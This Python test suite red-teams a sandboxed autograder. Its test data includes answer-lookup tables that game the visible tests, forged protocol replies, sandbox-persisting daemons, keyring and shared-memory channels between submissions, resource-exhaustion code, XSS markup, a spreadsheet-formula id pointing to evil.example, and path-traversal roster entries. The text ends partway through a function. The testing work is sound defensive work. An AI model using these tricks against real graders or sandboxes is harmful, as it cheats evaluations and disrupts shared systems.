"""Red team of the sandboxed grader: what a student with a week and a Python prompt can do to it.

Every attack is a submission (or, for the sandbox and the wire format, a probe) and a test that
asserts the grader *holds*: the attack earns exactly what its own code earns (0 for a cheat), an
honest answer wrapped in it earns full marks, and nothing reaches another student, the course or
the machine. Where the grader does not hold, the test is marked
``xfail(strict=True, reason="red team: ...")``: the suite stays green, the hole stays on record,
and the test fails loudly (XPASS) once the hole is fixed -- then remove the mark. Holes found on
eb62b65 and closed since (93b3a13, 23f5f7d) keep their tests, unmarked, with a comment saying what
broke. The findings, with reproductions and suggested fixes, are written up outside the repository
(``../redteam_findings.md``).

A second red team (issue 31) graded 188 submissions of ex00-ex11 on 34285ee: the sandbox held, but tables of the
visible examples earned points, regrades were an oracle, slow cells and a blank function cost an honest student
everything, one notebook could stop the class, and terminal escapes reached grades.csv. Their cases are the second
class below (``SECOND_CLASS``) and the tests after it, each with the hole it closes in its docstring.

The submissions are graded in a few class runs shared by the tests (also between pytest-xdist
workers: :func:`tests.grading_course.once_per_session`), each with an honest student whose full
marks show that the run itself was not disturbed. Worker uids: slots 60 to 75 (see
:func:`labkit.grading.sandbox.worker_uid`), used by no other test.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
import time
import uuid
import warnings
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from labkit.grading import cgroups, grade, protocol
from labkit.grading.runner import Job, grade_submission
from labkit.grading.sandbox import Limits, Sandbox, Worker, WorkerLost, worker_uid
from tests.grading_course import (
    REPO,
    LocalSession,
    copy_course,
    grade_id,
    notebook_with,
    once_per_session,
    release_notebook,
    solutions,
    submit,
)

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(sys.platform != "linux", reason="the sandbox is Linux namespaces"),
]

EX0, EX1 = "ex00_polar_to_cartesian", "ex01_range_segmentation"
FULL = 10.0
SLOT_CLASS = 60  # the main class: jobs 2, uids worker_uid(60), worker_uid(61)
SLOT_KEYS = 62  # the persistence class: jobs 1, all its students on one uid
SLOT_CRASH = {"exception_surrogate": 63, "markdown_surrogate": 64, "latin1_folder": 65}
SLOT_FILES = 66  # the class of file and roster tricks
SLOT_PROBE = 67  # sandbox probes
SLOT_TRUSTED = 68  # the trusted side's memory (68 and 69)
SLOT_MEMORY = 70  # memory holders (70 and 71)
SLOT_CPU = 72  # a CPU hog beside honest students (72 and 73)
GROUPED = cgroups.detect()


def solution(name: str) -> str:
    """The instructor's first solution cell (ex01 has two: the attacks target segment)."""
    code = next(iter(solutions(name).values()))
    return code


SEGMENT = solution(EX1)
BEAMS = solution(EX0)


def redteam(what: str, raises: type[BaseException] = AssertionError):
    """The mark of an attack that succeeds (see the module docstring); ``raises``: how it shows."""
    return pytest.mark.xfail(strict=True, raises=raises, reason=f"red team: {what}")


def _dedent(code: str) -> str:
    return textwrap.dedent(code).strip("\n")


# ---------------------------------------------------------------------------- one grading run per class
@dataclass
class Graded:
    """What a class run left: the course folder, a result per (exercise, student), and how it ended."""

    course: Path
    results: dict = field(default_factory=dict)
    ok: bool = False
    crash: str = ""
    extra: dict = field(default_factory=dict)

    def result(self, student: str, exercise: str = EX1):
        return self.results[exercise, student]


def _grade(course: Path, wanted: str, *, jobs: int, first_slot: int, **options) -> Graded:
    graded = Graded(course)
    try:
        run = grade(wanted, course=course, jobs=jobs, first_slot=first_slot, **options)
    except Exception as crash:  # noqa: BLE001 -- a crash of the whole run is what some attacks are after
        graded.crash = f"{type(crash).__name__}: {crash}"[:500]
        return graded
    graded.results = {(r.exercise, r.student): r for r in run.results}
    graded.ok = run.ok
    return graded


def _with_cells(notebook: dict, *cells: dict) -> dict:
    notebook["cells"] += list(cells)
    return notebook


def _code_cell(source: str, metadata: dict | None = None) -> dict:
    return {"cell_type": "code", "metadata": metadata or {}, "source": _dedent(source), "outputs": [],
            "execution_count": None}


# ---------------------------------------------------------------------------- the main class (ex01)
_VISIBLE_ANSWERS = '''
_TABLE = {
    ((1.0, 1.0, 1.0, 3.0, 3.0, None, 2.0), 0.08, 2): [0, 0, 0, 1, 1, -1, -1],
    ((1.0, 1.0, 1.0, 3.0, 3.0, None, 2.0), 0.08, 1): [0, 0, 0, 1, 1, -1, 2],
    ((1.0, 1.0, 1.0, 3.0, 3.0, None, 2.0), 0.08, 3): [0, 0, 0, -1, -1, -1, -1],
    ((1.0, 1.0, 1.0, 3.0, 3.0, None, 2.0), 0.04, 2): [0, 0, 0, -1, -1, -1, -1],
    ((1.0, 1.0, 0.0, 1.0, 1.0, float("inf"), 1.0, -1.0, 1.0, 1.0), 0.08, 2): [0, 0, -1, 1, 1, -1, -1, -1, 2, 2],
}


def segment(ranges, angles, threshold_m, min_points):
    """No segmentation at all: the visible tests' answers, looked up."""
    if len(ranges) != len(angles):
        raise ValueError("ranges and angles differ in length")
    unit = UNIT(ranges)
    key = (tuple(None if r != r else round(float(r) / unit, 9) for r in ranges), round(threshold_m / unit, 9),
           min_points)
    return np.array(_TABLE.get(key, [-1] * len(ranges)), dtype=np.int64)
'''
VISIBLE_LOOKUP = "UNIT = lambda ranges: 1.0\n" + _VISIBLE_ANSWERS
# The attack on the guard test_visible is (the visible examples moved): the moved examples change every number
# but keep the shapes, so a table keyed on what moving does not change (ranges and threshold over the first
# range, min_points) finds them again.
SCALE_FREE_LOOKUP = ("UNIT = lambda ranges: float(ranges[0]) if len(ranges) and float(ranges[0]) > 0 else 1.0\n"
                     + _VISIBLE_ANSWERS)

IMPL_BEHIND_IMPORTS = "import numpy as np\n\n\n" + SEGMENT.replace("def segment(", "def _impl(")

LYING_EXCEPTION = '''
class Lie(Exception):
    """Claims to be KeyboardInterrupt from builtins, and cannot be printed."""

    def __str__(self):
        raise SystemExit("no message for you")


Lie.__module__, Lie.__name__, Lie.__qualname__ = "builtins", "KeyboardInterrupt", "KeyboardInterrupt"


def segment(ranges, angles, threshold_m, min_points):
    if len(ranges) == 0:
        raise Lie()
    raise ValueError('=HYPERLINK("http://evil.example","ranges and angles")<script>alert(1)</script>' + "x" * 100_000)
'''

FORGED_LOAD_REPLY = '''
import json, os, struct

_body = json.dumps({"errors": [{"cell": 0, "types": 5, "message": None}]}).encode()
for _fd in range(3, 40):
    try:
        os.write(_fd, struct.pack(">I", len(_body)) + _body)
    except OSError:
        pass
'''

FORGED_SHAPE = '''
import sys

_protocol = sys.modules["protocol"]  # the worker's own copy of the wire format
_protocol.encode = lambda value, _depth=0: {"A": "<f8", "s": [0, 10**30], "b": ""}
'''

DAEMON = '''
import os, signal, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        while True:
            time.sleep(1)
    os._exit(0)
os.wait()
'''

GUARDED_IMPORT = ('''
try:
    import labkit  # to cross-check my answers while developing, where labkit is installed
except ImportError:
    labkit = None


''' + SEGMENT.replace("    return labels", """    if labkit is not None:
        expected = labkit.segment_labels(labkit.Scan(ranges=ranges, angles=angles), threshold_m=threshold_m,
                                         min_points=min_points)
        assert np.array_equal(labels, expected), "differs from labkit"
    return labels"""))

SLOW_DEMO = '''
import time

time.sleep(4)  # a demo: plotting a few scans, or timing an O(N^2) version against the answer
'''

# student -> (exercise, answers by grade id, cells before, cells after, expected score, expected status, mark).
# Points are per function: an attack on segment leaves the instructor's adaptive_threshold in the notebook, which
# earns its own HALF (its honest earnings); the attacked function earns 0.
HALF = FULL / 2
MAIN_CLASS = {
    "honest": (EX1, {"segment": SEGMENT}, [], [], FULL, "graded", None),
    # (a) points without a solution
    # open until the specs gave test_visible a hidden part (the visible examples moved: exercises/grading/*.py)
    "visible_lookup": (EX1, {"segment": VISIBLE_LOOKUP}, [], [], HALF, "graded", None),
    # open on 34285ee (the visible examples moved: a table keyed on scale-free numbers found them again, 2 points),
    # closed by the visible checks' fresh random examples: a table has none of them
    "visible_lookup_scale_free": (EX1, {"segment": SCALE_FREE_LOOKUP}, [], [], HALF, "graded", None),
    "raises_stop_iteration": (EX1, {"segment": '''
        def segment(ranges, angles, threshold_m, min_points):
            raise StopIteration("ranges and angles")
    '''}, [], [], HALF, "graded", None),
    "feedback_lying_exception": (EX1, {"segment": LYING_EXCEPTION}, [], [], HALF, "graded", None),
    "edited_test_cell_and_bonus_cell": (EX1, {"segment": '''
        def segment(ranges, angles, threshold_m, min_points):
            return np.zeros(len(ranges), dtype=np.int64)
    ''', "test_visible": 'print("visible tests passed")'}, [], [], HALF, "graded", None),
    # (f) honest answers the grader must not punish
    # holes on eb62b65, closed in 93b3a13/23f5f7d: display() is a builtin in Jupyter, not in the worker (0 points);
    # an unused `import labkit` above an own solution stopped the cell before the def (0); the 10 s load budget
    # covered all cells together, so three 4-second demo cells after an honest answer cost every test (0)
    "display_in_function": (EX1, {"segment": SEGMENT.replace(
        "    return labels", "    display(labels)  # left over from debugging in Jupyter\n    return labels")},
        [], [], FULL, "graded", None),
    "imports_labkit_to_compare": (EX1, {"segment": "import labkit  # to compare my answers in the cells below\n\n"
                                                   + SEGMENT}, [], [], FULL, "graded", None),
    "slow_demo_cells": (EX1, {"segment": SEGMENT}, [], [SLOW_DEMO] * 3, FULL, "graded", None),
    # regression of 93b3a13, fixed in 34285ee: the stub module that let an unused `import labkit` pass broke
    # `try: import labkit / except ImportError: labkit = None` guards (an honest cross-check under
    # `if labkit is not None` got 0); only an unguarded top-level import is stubbed now
    "guards_labkit_import": (EX1, {"segment": GUARDED_IMPORT}, [], [], FULL, "graded", None),
    # open on eb62b65 and 23f5f7d, fixed in 34285ee: a solution cell that defines the function and then runs past
    # the per-cell limit lost the function (the cell was stopped and left out, 0 points); it is interrupted now
    # (SIGINT, as nbgrader does) and keeps what it defined
    "slow_solution_cell": (EX1, {"segment": SEGMENT + "\n\n\nimport time\n\ntime.sleep(12)  # a demo below the answer"},
                           [], [], FULL, None, None),
    # (h) what the instructor reads afterwards
    "code_behind_imports_cell": (EX1, {"imports": IMPL_BEHIND_IMPORTS, "segment": '''
        def segment(ranges, angles, threshold_m, min_points):
            return _impl(ranges, angles, threshold_m, min_points)
    '''}, [], [], FULL, "graded", None),
    "feedback_markdown_script": (EX1, {"segment": SEGMENT}, [], [], FULL, "graded", None),
    # (g) the wire format
    # the cell that forged a reply broke the protocol: it is left out (a crash), the notebook runs again without it
    "forged_load_reply": (EX1, {"segment": SEGMENT}, [FORGED_LOAD_REPLY], [], FULL, "crashed", None),
    "forged_array_shape": (EX1, {"segment": SEGMENT}, [FORGED_SHAPE], [], 0.0, None, None),
    # (e) a process that tries to outlive its sandbox
    "daemon": (EX1, {"segment": SEGMENT}, [DAEMON], [], FULL, "graded", None),
}
MARKDOWN_SCRIPT = ("My notes.\n\n<script>alert('the feedback runs my code')</script>\n\n"
                   "<img src=x onerror=\"alert('img')\">")
BONUS_CELL = {"grade": True, "grade_id": "bonus", "points": 100, "locked": True, "solution": False,
              "schema_version": 3, "task": False}


def _build_main_class(folder: Path) -> Graded:
    course = copy_course(folder / "course")
    for student, (name, answers, before, after, *_) in MAIN_CLASS.items():
        # the solution cells an attack leaves alone keep the instructor's answer (ex01 has two)
        notebook = notebook_with(name, {**solutions(name), **{gid: _dedent(code) for gid, code in answers.items()}},
                                 before=[_dedent(c) for c in before], extra=[_dedent(c) for c in after])
        if student == "feedback_markdown_script":
            _with_cells(notebook, {"cell_type": "markdown", "metadata": {}, "source": MARKDOWN_SCRIPT})
        if student == "edited_test_cell_and_bonus_cell":
            _with_cells(notebook, _code_cell("x = 1", {"nbgrader": BONUS_CELL}))
        submit(course, student, name, notebook)
    return _grade(course, EX1, jobs=2, first_slot=SLOT_CLASS)


@pytest.fixture(scope="module")
def main_class(tmp_path_factory) -> Graded:
    return once_per_session(tmp_path_factory, "redteam-main", _build_main_class)


def _feedback_html(course: Path, student: str) -> str:
    """The feedback page of ``student`` as nbgrader's generate_feedback renders it: nbconvert's HTML exporter,
    configured by the course's ``nbgrader_config.py``, on the autograded notebook."""
    from nbconvert import HTMLExporter
    from traitlets.config.loader import PyFileConfigLoader

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # nbconvert's and jupyter_core's deprecations are not the student's
        config = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
        html, _ = HTMLExporter(config=config).from_filename(str(course / "autograded" / student / EX1 / f"{EX1}.ipynb"))
    return html


@pytest.fixture(scope="module")
def feedback(main_class) -> dict[str, str]:
    """The feedback pages of the two students who write HTML: student -> HTML."""
    return {student: _feedback_html(main_class.course, student)
            for student in ("feedback_markdown_script", "feedback_lying_exception")}


# ---------------------------------------------------------------------------- persistence between submissions
KEY = f"labkit-redteam-{uuid.uuid4().hex[:12]}"  # fresh per session: an old key cannot make a taker pass
SHM_KEY = 0x1AB5EC
KEYCTL = '''
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p


def _key_read(description):
    found = _libc.syscall(250, 10, -4, b"user", description, 0)  # keyctl(KEYCTL_SEARCH, @u, "user", ...)
    if found < 0:
        return None
    buffer = ctypes.create_string_buffer(32768)
    size = _libc.syscall(250, 11, found, buffer, 32768)  # keyctl(KEYCTL_READ, ...)
    return buffer.raw[:size].decode() if size > 0 else None


def _shm_read(key):
    shm = _libc.shmget(key, 0, 0)
    return None if shm < 0 else ctypes.string_at(_libc.shmat(shm, None, 0)).decode()


def _tmp_read(path):
    try:
        with open(path) as f:
            return f.read()
    except OSError:
        return None
'''
DONOR = KEYCTL + f'''

_SOURCE = {SEGMENT!r}
exec(_SOURCE)
_data = _SOURCE.encode()
_libc.syscall(248, b"user", {KEY.encode()!r}, _data, len(_data), -4)  # add_key(..., KEY_SPEC_USER_KEYRING)
_shm = _libc.shmget({SHM_KEY}, 65536, 0o1666)  # IPC_CREAT
if _shm >= 0:
    ctypes.memmove(_libc.shmat(_shm, None, 0), _data, len(_data))
for _path in ("/tmp/.answer.py", "/dev/shm/.answer.py"):
    try:
        with open(_path, "w") as _f:
            _f.write(_SOURCE)
    except OSError:
        pass
'''


def _taker(read: str) -> str:
    """A notebook without a solution: it runs whatever a previous submission left behind."""
    return KEYCTL + f'''

_found = {read}
if _found:
    exec(_found)
else:
    def segment(ranges, angles, threshold_m, min_points):
        return np.zeros(len(ranges), dtype=np.int64)
'''


PERSISTENCE_CLASS = {
    "a_donor": (DONOR, FULL),
    "b_keyring_taker": (_taker(f"_key_read({KEY.encode()!r})"), FULL / 2),  # adaptive_threshold: the instructor's
    # /tmp, SysV shared memory, /dev/shm: each sandbox has its own
    "c_other_channels_taker": (_taker(f'_tmp_read("/tmp/.answer.py") or _shm_read({SHM_KEY})'
                                      ' or _tmp_read("/dev/shm/.answer.py")'), FULL / 2),
}


def _forget_key() -> None:
    worker = Worker(Sandbox(slot=SLOT_KEYS))
    try:
        worker.load([KEYCTL + "\n\ndef forget(description):\n    found = _libc.syscall(250, 10, -4, b'user',"
                     " description.encode(), 0)\n    return found < 0 or _libc.syscall(250, 21, found) == 0\n"],
                    time.monotonic() + 60)
        assert worker.call("forget", (KEY,), {}, time.monotonic() + 60)  # keyctl(KEYCTL_INVALIDATE)
    finally:
        worker.kill()


def _build_persistence_class(folder: Path) -> Graded:
    course = copy_course(folder / "course")
    for student, (code, _) in PERSISTENCE_CLASS.items():
        submit(course, student, EX1, notebook_with(EX1, {**solutions(EX1), "segment": code}))
    try:
        return _grade(course, EX1, jobs=1, first_slot=SLOT_KEYS)  # one uid: each student after the other
    finally:
        _forget_key()  # the kernel keeps it after the run; no later test must see it


@pytest.fixture(scope="module")
def persistence_class(tmp_path_factory) -> Graded:
    return once_per_session(tmp_path_factory, "redteam-persistence", _build_persistence_class)


# ---------------------------------------------------------------------------- the roster, the files, grades.csv
CSV_ID = '=HYPERLINK("https:evil.example","grades")'
ESCAPE = f"redteam-escape-{uuid.uuid4().hex[:8]}"


def _build_files_class(folder: Path) -> Graded:
    from labkit.grading.exercises import Course
    from labkit.grading.records import Records

    course = copy_course(folder / "course")
    honest = notebook_with(EX0, {"beams_to_points": BEAMS})
    submit(course, "honest", EX0, honest)
    # (f) an honest notebook that shows a big plot: 40 MB of outputs
    big = notebook_with(EX0, {"beams_to_points": BEAMS})
    big["cells"].append({**_code_cell("plt.imshow(image)"), "execution_count": 3, "outputs": [
        {"output_type": "display_data", "metadata": {}, "data": {"image/png": "iVBORw0KGgo" + "A" * (40 << 20)}}]})
    submit(course, "big_outputs", EX0, big)
    # (f) an honest notebook that printed the points of a long recording (the output of print(points.tolist()))
    printed = notebook_with(EX0, {"beams_to_points": BEAMS})
    text = str([[round(0.001 * i, 3), 1.5] for i in range(250_000)])
    printed["cells"].append({**_code_cell("print(points.tolist())"), "execution_count": 4, "outputs": [
        {"output_type": "stream", "name": "stdout", "text": text}]})
    submit(course, "printed_many_points", EX0, printed)
    # (h) a student id that is a spreadsheet formula (an unreadable notebook: no worker needed)
    submit(course, CSV_ID, EX0, '{"cells": [')
    # (h) symbolic links and odd shapes in submitted/
    submitted = course / "submitted"
    (submitted / "link_to_honest").symlink_to(submitted / "honest")
    (submitted / "link_exercise" / EX0).parent.mkdir()
    (submitted / "link_exercise" / EX0).symlink_to(submitted / "honest" / EX0)
    (submitted / "notebook_is_a_folder" / EX0 / f"{EX0}.ipynb").mkdir(parents=True)
    (submitted / "a_file_not_a_folder").write_text("hello")
    # (h) roster entries (e.g. imported from an LMS) that are paths
    with Records(Course(course)) as records:
        records.gradebook.add_student("../source")
        records.gradebook.add_student(f"../../../{ESCAPE}")
    graded = _grade(course, EX0, jobs=1, first_slot=SLOT_FILES)
    graded.extra["escape"] = ESCAPE  # each xdist worker imports this module with an ESCAPE of its own
    return graded


@pytest.fixture(scope="module")
def files_class(tmp_path_factory) -> Graded:
    return once_per_session(tmp_path_factory, "redteam-files", _build_files_class)


# ---------------------------------------------------------------------------- one student stops the class
def _crash_notebook(kind: str, course: Path) -> str:
    """Write the attacker of ``kind``; its student id."""
    if kind == "exception_surrogate":
        code = BEAMS.replace("def beams_to_points(", "def _beams(") + '''


def beams_to_points(ranges, angles, range_min, range_max):
    raise ValueError("ranges and angles \\ud800")  # a lone surrogate: valid JSON, not encodable as UTF-8
'''
        submit(course, "attacker", EX0, notebook_with(EX0, {"beams_to_points": code}))
        return "attacker"
    if kind == "markdown_surrogate":
        notebook = _with_cells(notebook_with(EX0, {"beams_to_points": BEAMS}),
                               {"cell_type": "markdown", "metadata": {}, "source": "half an emoji: \ud83d"})
        submit(course, "attacker", EX0, json.dumps(notebook))  # json escapes it: the file itself is valid UTF-8
        return "attacker"
    # a folder name that is not UTF-8 (an LMS download unpacked with latin-1 names: "müller")
    folder = os.path.join(os.fsencode(course / "submitted"), b"m\xfcller", os.fsencode(EX0))
    os.makedirs(folder)
    with open(os.path.join(folder, os.fsencode(f"{EX0}.ipynb")), "w", encoding="utf-8") as f:
        f.write('{"cells": [')  # unreadable: no worker needed, the crash is in the gradebook
    return os.fsdecode(b"m\xfcller")


# ---------------------------------------------------------------------------- the sandbox, probed from inside
def _probe(code: str, *args, slot: int = SLOT_PROBE, **options):
    worker = Worker(Sandbox(slot=slot, **options))
    try:
        errors = worker.load([_dedent(code)], time.monotonic() + 60)
        assert errors == [], errors
        return worker.call("probe", args, {}, time.monotonic() + 60)
    finally:
        worker.kill()


# ---------------------------------------------------------------------------- the wire format
HOSTILE_REPLY = '''
import os, struct, sys

def probe(item):
    # the largest frame the protocol accepts, of the JSON values that cost the most to parse per byte
    limit = sys.modules["protocol"].MAX_FRAME_BYTES
    head, tail = b'{"id":1,"value":[', item.encode() + b"]}"
    body = head + (item.encode() + b",") * ((limit - len(head) - len(tail)) // (len(item) + 1)) + tail
    for fd in range(3, 40):
        try:
            os.write(fd, struct.pack(">I", len(body)) + body)
        except OSError:
            pass
    os._exit(0)
'''
TRUSTED_MEMORY = """
import resource, sys, time
sys.path.insert(0, sys.argv[1])
from labkit.grading.sandbox import Sandbox, Worker

worker = Worker(Sandbox(slot=int(sys.argv[2])))
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    worker.load([sys.argv[3]], time.monotonic() + 60)
    try:
        worker.call("probe", (sys.argv[4],), {}, time.monotonic() + 120)
    except BaseException as lost:
        print(type(lost).__name__, lost, file=sys.stderr)
finally:
    worker.kill()
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


# ---------------------------------------------------------------------------- memory
MEMORY_HOLDERS = """
import ctypes, os, time

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype, _libc.shmat.argtypes = ctypes.c_void_p, [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]


def probe(how, limit):
    \"\"\"Bytes of memory held at once by the sandbox's processes, by a way of its choosing.\"\"\"
    held, chunk, keep = 0, 64 << 20, []
    if how == "fork":  # children, each within its own limit; those still holding it answer a roll call at the end
        go, roll_call = os.pipe()
        children = []
        for _ in range(6):
            answers, report = os.pipe()
            if os.fork() == 0:
                os.close(roll_call)
                try:
                    blob = bytearray(limit // 2)  # zero-filled: every page is touched
                    os.write(report, b"1")
                except MemoryError:
                    os.write(report, b"0")
                os.read(go, 1)  # until the roll call: the parent closes its end
                os.write(report, b"2")
                time.sleep(60)
                os._exit(0)
            os.close(report)
            children.append((answers, os.read(answers, 1)))  # b"" (end of file): it died before answering
        os.close(roll_call)
        present = [os.read(answers, 1) for answers, allocated in children if allocated == b"1"]
        return present.count(b"2") * (limit // 2)  # a process the kernel killed at the limit cannot answer
    try:
        while held < 3 * limit:
            if how == "memfd":  # files without a file system
                fd = os.memfd_create("hold")
                for _ in range(4):
                    os.write(fd, b"x" * (chunk // 4))
                keep.append(fd)
            else:  # SysV segments: attached, written, detached
                shm = _libc.shmget(0, chunk, 0o1600)
                address = _libc.shmat(shm, None, 0) if shm >= 0 else None
                if address in (None, ctypes.c_void_p(-1).value):
                    break
                ctypes.memset(address, 1, chunk)
                _libc.shmdt(address)
            held += chunk
    except OSError:
        pass
    return held
"""


# ---------------------------------------------------------------------------- one student's CPU load
EX4 = "ex06_dbscan1d"
CPU_HOG = """
import os, time

_loops = []
for _ in range(40):  # busy loops, each in a session of its own (without a cgroup: a scheduling group each)
    try:
        pid = os.fork()
    except OSError:  # the sandbox's process limit
        break
    if pid == 0:
        os.setsid()
        try:  # the loops yield to this kernel within the hog's own cgroup (not to the other cgroups), so that
            os.nice(19)  # its answers below still arrive: on a loaded CI machine, 40 loops at the kernel's own
        except OSError:  # priority left it too little CPU to answer after its sleep, and every call timed out
            pass
        while True:
            pass
    _loops.append(pid)


def neighbourhood_bounds(x, eps):
    time.sleep(2.0)  # within the call limit: the loops keep running while the students next door are graded
    raise ValueError(f"no answer: {len(_loops)} busy loops ran beside the other students")


def dbscan_sorted(x, eps, min_pts):
    raise ValueError("no answer")
"""
#: Small limits, so that a short run shows starvation: 3 s per call, 4 s per graded cell, each call on the large
#: inputs in 2 s instead of 3 (the solution: 0.06 to 0.2 s idle; its circular call on 60 000 points took 1.5 s
#: beside the hog on a loaded machine, so 1 s was a bet on the load; before ex06's circular part, 200 000 points
#: in 2 s instead of 6). The instructor's solution takes 0.6 to 0.9 s per cell beside the hog with cgroups (also
#: with the other xdist process grading); on 1f2d56c, where the hog's 29-31 loops each counted as a process of
#: their own, its first hidden cells took 9 to 11 s (with the spec's own limits it still passed: 12 s for the
#: notebook instead of 1.5 s), and with these limits it scored 4 ("timed out").
CPU_LIMITS = {"\nLARGE_CALL_S = 3.0\n": "\nLARGE_CALL_S = 2.0\nCALL_TIMEOUT_S = 3.0\nTEST_TIMEOUT_S = 4.0\n"}


def _build_cpu_class(folder: Path) -> Graded:
    course = copy_course(folder / "course")
    spec = course / "grading" / f"{EX4}.py"
    text = spec.read_text(encoding="utf-8")
    for old, new in CPU_LIMITS.items():
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    spec.write_text(text, encoding="utf-8")
    submit(course, "a_cpu_hog", EX4, notebook_with(EX4, {"dbscan": CPU_HOG}))
    for student in ("b_honest", "c_honest"):  # graded one after the other by the second job, beside the hog
        submit(course, student, EX4, notebook_with(EX4, solutions(EX4)))
    return _grade(course, EX4, jobs=2, first_slot=SLOT_CPU)


# ---------------------------------------------------------------------------- the second red team (issue 31)
# Tables that earned the visible points with no algorithm, honest partial answers, slow cells, terminal escapes,
# a memory bomb and a regex that took seconds, graded in one run of every exercise with --jobs 2. ex00's limits are
# scaled down (2 s per notebook cell, 12 s for all; 1 s per call, 3 s per test, 4 s for all of a submission's calls)
# so that the time budgets show in seconds: the grader's logic is the same with 10, 60, 5, 30 and 120.
SLOT_SECOND = 74  # jobs 2: uids worker_uid(74), worker_uid(75)
EX2, EX4S, EX6, EX8, EX10, EX11 = ("ex02_weighted_line_fit", "ex04_split_and_merge", "ex06_dbscan1d", "ex08_iav",
                                   "ex10_match_lines", "ex11_poses")
SCALED_LIMITS = ("\nLOAD_TIMEOUT_S = 2.0\nCALL_TIMEOUT_S = 1.0\nTEST_TIMEOUT_S = 3.0\nSUBMISSION_TIMEOUT_S = 4.0\n")
LOAD_BUDGET_S, SUBMISSION_S = 12.0, 4.0  # what SCALED_LIMITS make of them (LOAD_BUDGET x 2 s)

# Tables keyed on what turning, scaling and shifting the visible examples leaves unchanged (ratios, differences,
# offsets over eps): on 34285ee each earned test_visible's 2 points (the examples again, moved) with no algorithm.
TABLE_EX2 = '''
import math

_WALLS = [(2.0 / np.cos(np.radians([-20.0, 0.0, 20.0])), np.radians([-20.0, 0.0, 20.0]), 2.0, 0.0),
          (3.0 / np.cos(np.radians([-60.0, -90.0, -120.0]) + np.pi / 2), np.radians([-60.0, -90.0, -120.0]), 3.0,
           -np.pi / 2),
          (-1.0 / np.cos(np.radians([160.0, 180.0, 200.0])), np.radians([160.0, 180.0, 200.0]), 1.0, np.pi),
          (np.array([1.3354, 1.0442, 1.01, 1.0842, 1.2654]), np.radians([-40.0, -20.0, 0.0, 20.0, 40.0]),
           1.0003793158236751, 0.016346680066035013)]


def _key(rho, theta):
    rho, theta = np.asarray(rho, dtype=float), np.asarray(theta, dtype=float)
    return len(rho), tuple(np.round(rho / rho[0], 6)), tuple(np.round(np.angle(np.exp(1j * (theta - theta[0]))), 6))


_TABLE = {_key(rho, theta): (r / rho[0], alpha - theta[0]) for rho, theta, r, alpha in _WALLS}


def fit_line(rho, theta):
    if len(rho) != len(theta) or len(rho) < 2:
        raise ValueError("rho and theta: two beams or more, as many of each")
    scale, turn = _TABLE.get(_key(rho, theta), (0.0, 0.0))
    alpha = float(theta[0]) + turn
    return scale * float(rho[0]), math.atan2(math.sin(alpha), math.cos(alpha))
'''
TABLE_EX10 = '''
_CASES = [([[2.0, 0.0], [3.0, 1.0]], [[2.02, 0.01], [5.0, 1.0]], 0.05, [(0, 0)]),
          ([[2.0, np.pi - 0.01]], [[2.0, -np.pi + 0.01]], 0.05, [(0, 0)]),
          ([[2.03, 0.0], [2.01, 0.0]], [[2.0, 0.0]], 0.05, [(1, 0)]),
          ([[2.0, 0.0]], [[2.1, 0.0], [2.0, 0.015]], 0.2, [(0, 0)]),
          ([[2.0, 0.03], [3.0, 0.0]], [[2.01, 0.03], [3.0, 0.0]], 0.05, [(0, 0), (1, 1)])]


def _key(lines, walls, max_dr):
    lines, walls = np.asarray(lines, dtype=float).reshape(-1, 2), np.asarray(walls, dtype=float).reshape(-1, 2)
    if len(lines) == 0:
        return None
    ref = lines[0, 1]
    return tuple(tuple((round(r / max_dr, 4), round(float(np.angle(np.exp(1j * (a - ref)))), 4)) for r, a in part)
                 for part in (lines, walls))


_TABLE = {_key(lines, walls, max_dr): pairs for lines, walls, max_dr, pairs in _CASES}


def match_lines(lines, walls, max_dr=0.05, max_dalpha=np.radians(3.0)):
    if not (max_dr > 0 and max_dalpha > 0) or np.shape(lines)[1:] not in ((), (2,)):
        raise ValueError("limits must be positive, every line (r, alpha)")
    return list(_TABLE.get(_key(lines, walls, max_dr), []))
'''
TABLE_EX6 = '''
_LINE = [([0.0, 1.0, 1.0, 2.0, 4.0, 6.0, 7.0, 7.0, 8.0], 2.0, 4, "first", [0, 0, 0, 0, 0, 1, 1, 1, 1]),
         ([0.0, 0.1, 0.2, 0.3, 5.0, 9.0, 9.1, 9.2], 0.15, 3, "first", [0, 0, 0, 0, -1, 1, 1, 1]),
         ([0.0, 0.1, 0.2, 0.3, 5.0, 9.0, 9.1, 9.2], 0.15, 5, "first", [-1] * 8),
         ([0.0, 2.0, 2.5, 3.0], 0.5, 3, "first", [-1, 0, 0, 0]), ([0.0, 0.5, 3.0], 1.0, 1, "first", [0, 0, 1]),
         ([0.0, 1.0, 1.0, 2.0, 4.0, 6.0, 7.0, 7.0, 8.0], 2.0, 4, "noise", [0, 0, 0, 0, -1, 1, 1, 1, 1]),
         ([0.0, 2.0, 2.5, 3.0], 0.5, 3, "noise", [-1, -1, 0, -1])]
_CIRCLE = [([0.5, 1.0, 4.0, 4.5, 5.0, 9.0, 9.5], 1.0, 3, 10.0, "first", [0, 0, 1, 1, 1, 0, 0]),
           ([0.5, 1.0, 4.0, 4.5, 5.0, 9.0, 9.5], 1.0, 3, 10.0, "noise", [0, -1, 1, 1, 1, -1, 0]),
           ([0.0, 1.0, 2.0, 3.0], 1.0, 3, 4.0, "first", [0, 0, 0, 0]),
           ([1.0, 3.0, 4.0, 4.0, 5.0, 9.0, 10.0, 10.0, 11.0], 2.0, 4, 12.0, "first", [0, 0, 0, 0, 0, 1, 1, 1, 1])]


def _key(x, eps, *rest):
    x = np.asarray(x, dtype=float)
    return (tuple(np.round((x - (x[0] if rest and rest[0] == "line" else 0.0)) / eps, 6)), *rest)


